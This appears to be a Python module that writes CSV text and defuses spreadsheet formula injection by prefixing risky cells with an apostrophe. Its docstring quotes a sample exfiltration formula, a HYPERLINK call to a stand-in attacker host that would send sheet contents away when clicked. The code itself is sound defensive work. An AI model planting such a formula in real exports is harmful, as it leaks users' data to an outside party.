"""The one CSV writer of the package: every CSV the app or the command line produces is made here.

Takes a header and rows of cells; gives CSV text. A spreadsheet program runs a cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula (CSV injection: a note
``=HYPERLINK("http://evil.example.com/?"&A1,"click")`` would send the sheet away when clicked), so
such a cell is written with a leading ``'``, which spreadsheets show as text and hide.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_START: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def csv_text(header: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    """``header`` and ``rows`` as CSV text, every cell that could start a formula defused.

    ``None`` is an empty cell; every other cell is written as ``str(cell)``. Rows end in CRLF
    (RFC 4180), so a cell holding a lone CR or LF is always quoted.
    """
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([defused(cell) for cell in header])
    writer.writerows([defused(cell) for cell in row] for row in rows)
    return out.getvalue()


def defused(cell: object) -> str:
    """``cell`` as text a spreadsheet shows as text: a leading ``'`` when it would start a formula."""
    text = "" if cell is None else str(cell)
    return "'" + text if text.startswith(FORMULA_START) else text
